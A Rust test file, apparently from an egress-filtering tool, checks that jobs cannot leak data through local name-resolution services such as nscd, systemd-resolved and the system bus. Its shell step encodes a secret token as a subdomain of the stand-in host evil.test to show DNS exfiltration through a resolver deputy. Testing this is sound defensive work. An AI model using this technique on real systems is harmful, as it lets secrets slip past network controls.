//! ATTACKS.md, D11: services of the machine that resolve names for a job.

use anyhow::{Context, Result, ensure};
use portcullis_common::event::{Event, EventKind, Feature, FeatureState, Verdict};
use portcullis_tests::evidence::Question;
use portcullis_tests::gate::{Gate, policy, step};
use portcullis_tests::world::{MonitorOptions, Process};
use portcullis_tests::{Job, JobOutcome, World, wait_for};
use std::fs;
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::Stdio;

/// Resolves what it is asked for on a Unix socket, in the group of a service and as another user than the job's, with the
/// network's own server: as systemd-resolved does by D-Bus, and nscd.
const DEPUTY: &str = r#"
import os, socket, struct, sys
listener = socket.socket(socket.AF_UNIX)
listener.bind(sys.argv[1])
os.chmod(sys.argv[1], 0o777)
listener.listen()
print("listening", flush=True)
while True:
    client = listener.accept()[0]
    name = client.recv(512).decode()
    if not name:
        continue
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.settimeout(3)
    server.sendto(query, (sys.argv[2], 53))
    try:
        answer = server.recv(4096)
        client.sendall(b"code %d, %d answers" % (answer[3] & 15, struct.unpack("!H", answer[6:8])[0]))
    except OSError as error:
        client.sendall(str(error).encode())
    client.close()
"#;

/// Asks the deputy, or says that it refuses.
const ASK: &str = r#"ask() { python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.sendall(sys.argv[2].encode()); print(sys.argv[2], s.recv(512).decode())' "$DEPUTY" "$1"; }
ask ok.test; ask "$TOKEN.evil.test"; ask evil.test
"#;

/// Starts the deputy, which listens at `socket`, in the group of a service.
fn start_deputy(gate: &Gate, name: &str, socket: &Path) -> Result<Process> {
    let world = gate.world();
    let (_, group) = world.create_unit(name)?;
    fs::create_dir_all(socket.parent().context("a socket without a directory")?)?;
    let server = portcullis_tests::world::network::DNS_V4.to_string();
    let mut deputy = world
        .command("python3")
        .args(["-c", DEPUTY, &socket.display().to_string(), &server])
        .cgroup(&group)
        .spawn(Stdio::null(), Stdio::piped(), Stdio::null())?;
    let output = deputy.child().stdout.take().context("no output")?;
    BufReader::new(output).read_line(&mut String::new())?;
    Ok(deputy)
}

/// Starts the deputy, and runs the job that asks it.
fn ask_a_deputy(gate: &Gate) -> Result<portcullis_tests::JobResult> {
    let socket = gate.world().directory().join("deputy.sock");
    let _deputy = start_deputy(gate, "deputy", &socket)?;
    let mut job = gate.job().env("DEPUTY", &socket.display().to_string());
    job.steps = vec![step("ask", ASK)];
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    ensure!(result.log().contains("ok.test code 0, "), "{}", result.log());
    Ok(result)
}

/// D11: in scope host a deputy's questions are judged as the job's are.
#[test]
fn a_deputy_resolves_no_more_than_the_job_may() -> Result<()> {
    let gate = Gate::up(&policy("block", &["ok.test:443"]))?;
    let result = ask_a_deputy(&gate)?;
    ensure!(!result.log().contains("evil.test code 0"), "{}", result.log());
    let events = gate.final_events()?;
    let blocked = events.iter().filter(|event| match &event.kind {
        EventKind::Dns(query) => {
            query.name.ends_with("evil.test") && query.verdict == Verdict::Blocked
        }
        _ => false,
    });
    ensure!(blocked.count() == 2, "{events:?}");
    gate.assert_contained()
}

/// Where nscd, systemd-resolved and the system bus listen.
const NSCD: &str = "run/nscd/socket";
const RESOLVED: &str = "run/systemd/resolve/io.systemd.Resolve";
const SYSTEM_BUS: &str = "run/dbus/system_bus_socket";

/// What the postures of the job say of name services, in their order.
fn name_services(events: &[Event]) -> Vec<&Feature> {
    let postures = events.iter().filter_map(|event| match &event.kind {
        EventKind::Posture(posture) => Some(&posture.posture.features),
        _ => None,
    });
    postures.flatten().filter(|feature| feature.name == "name-services").collect()
}

/// A gate on a host with two runners.
fn with_two_runners(policy: &str, configuration: &str) -> Result<Gate> {
    let mut gate = Gate::without(World::builder().runners(2))?;
    gate.world().write_configuration(configuration)?;
    gate.raise(policy, MonitorOptions::default())?;
    for number in 0..2 {
        gate.world().runner(number).start()?;
    }
    Ok(gate)
}

/// A job that asks the deputies at these sockets, waits for a release, and asks them again.
fn job_of_deputies(gate: &Gate, sockets: &[PathBuf]) -> Job {
    let mut job = gate.job();
    let each = sockets.iter().map(|socket| format!("DEPUTY='{}'\n{ASK}\n", socket.display()));
    let script = each.collect::<Vec<_>>().concat();
    let wait = "until [ -e \"$RELEASE/again\" ]; do sleep 0.05; done";
    job.steps = vec![
        step("ask", &format!("set +e\n{script}getent hosts ok.test")),
        step("wait", wait),
        step("again", &format!("set +e\n{script}getent hosts ok.test")),
    ];
    job
}

/// D11: in scope job what a deputy asks is nobody's, so that deputies are closed to the job, also those that come while it
/// runs, and open afterwards. The job resolves names by itself.
#[test]
fn deputies_are_closed_where_only_the_job_is_judged() -> Result<()> {
    let gate = with_two_runners(&policy("block", &["ok.test:443"]), "")?;
    let sockets = [NSCD, RESOLVED].map(|path| gate.world().root().join(path));
    let _nscd = start_deputy(&gate, "nscd", &sockets[0])?;
    let resolved = start_deputy(&gate, "resolved", &sockets[1])?;
    let job = gate.begin(&job_of_deputies(&gate, &sockets))?;
    gate.wait_for_question(&Question::of("ok.test").verdict(Verdict::Allowed))?;
    // It is started anew while the job runs.
    drop(resolved);
    fs::remove_file(&sockets[1])?;
    let _resolved = start_deputy(&gate, "resolved-again", &sockets[1])?;
    let is_told = |event: &Event| matches!(&event.kind, EventKind::Posture(posture) if posture.reason.contains("resolves names opened a socket"));
    gate.wait_for_evidence(|events| {
        events.iter().find(|event| is_told(event)).map(drop).context("the new socket is not told")
    })?;
    gate.release("again")?;
    let result = job.wait()?;
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}");
    ensure!(log.matches("PermissionError").count() == 12, "{log}");
    ensure!(!log.contains("code 0") && log.matches("ok.test").count() >= 2, "{log}");
    let events = gate.final_events()?;
    let said = name_services(&events);
    ensure!(said.iter().all(|feature| feature.state == FeatureState::Active), "{said:?}");
    ensure!(!said.is_empty(), "no posture tells of them");
    gate.assert_contained()?;
    for socket in &sockets {
        let uid = gate.world().runner(0).uid();
        let connect = "import socket,sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])";
        let python = gate.world().command("python3").user(uid);
        python.args(["-c", connect]).arg(socket).text()?;
    }
    Ok(())
}

/// As long as everything of the machine is judged they stay open, and are closed when a second runner starts a job.
#[test]
fn deputies_are_closed_when_another_job_starts() -> Result<()> {
    let world = World::builder().runners(2);
    let gate = Gate::build(world, &policy("block", &["ok.test:443"]), MonitorOptions::default())?;
    let socket = gate.world().root().join(NSCD);
    let _nscd = start_deputy(&gate, "nscd", &socket)?;
    let job = gate.begin(&job_of_deputies(&gate, &[socket]))?;
    gate.wait_for_question(&Question::of("ok.test").verdict(Verdict::Allowed))?;
    ensure!(name_services(&gate.events()?).is_empty());
    let first = gate.world().job_ids()?.pop().context("no job")?;
    let second = gate.world().runner(1).begin(&gate.job())?;
    let events = || gate.world().events(&first);
    wait_for("the first job to be narrowed", || {
        (!name_services(&events().ok()?).is_empty()).then_some(())
    })?;
    gate.release("again")?;
    let (result, _) = (job.wait()?, second.wait()?);
    let log = result.log();
    ensure!(result.outcome == JobOutcome::Success, "{log}");
    let asked = &result.step("ask").context("no step")?.log;
    ensure!(asked.contains("ok.test code 0") && !asked.contains("evil.test code 0"), "{log}");
    let again = &result.step("again").context("no step")?.log;
    ensure!(again.matches("PermissionError").count() == 3, "{log}");
    gate.monitor().wait_until_idle()?;
    let events = events()?;
    let said = name_services(&events);
    ensure!(said.iter().all(|feature| feature.state == FeatureState::Active), "{said:?}");
    gate.assert_contained()
}

/// Audit mode stops nothing.
#[test]
fn deputies_are_left_to_audited_jobs() -> Result<()> {
    let gate = with_two_runners(&policy("audit", &[]), "")?;
    let socket = gate.world().root().join(NSCD);
    let _nscd = start_deputy(&gate, "nscd", &socket)?;
    gate.release("again")?;
    let result = gate.begin(&job_of_deputies(&gate, &[socket]))?.wait()?;
    ensure!(result.log().matches("ok.test code 0").count() == 2, "{}", result.log());
    ensure!(name_services(&gate.final_events()?).is_empty());
    gate.assert_leaked()
}

/// The system bus serves much else, so that it is closed where that is configured, and the posture is weaker where it is not.
#[test]
fn the_system_bus_is_closed_where_that_is_configured() -> Result<()> {
    for is_closed in [false, true] {
        let configuration = format!("[dns]\nclose-system-bus = {is_closed}\n");
        let gate = with_two_runners(&policy("block", &["ok.test:443"]), &configuration)?;
        let [bus, resolved] = [SYSTEM_BUS, RESOLVED].map(|path| gate.world().root().join(path));
        let _bus = start_deputy(&gate, "dbus", &bus)?;
        let _resolved = start_deputy(&gate, "resolved", &resolved)?;
        gate.release("again")?;
        let result = gate.begin(&job_of_deputies(&gate, &[bus]))?.wait()?;
        ensure!(result.log().contains("ok.test code 0") != is_closed, "{}", result.log());
        let events = gate.final_events()?;
        let said = name_services(&events);
        let expected = if is_closed { FeatureState::Active } else { FeatureState::Degraded };
        ensure!(!said.is_empty(), "no posture tells of it");
        ensure!(said.iter().all(|feature| feature.state == expected), "{said:?}");
        if is_closed {
            gate.assert_contained()?;
        }
    }
    Ok(())
}

#[test]
fn without_a_gate_a_deputy_carries_the_secret_out() -> Result<()> {
    let gate = Gate::without(World::builder())?;
    ask_a_deputy(&gate)?;
    gate.assert_leaked()
}
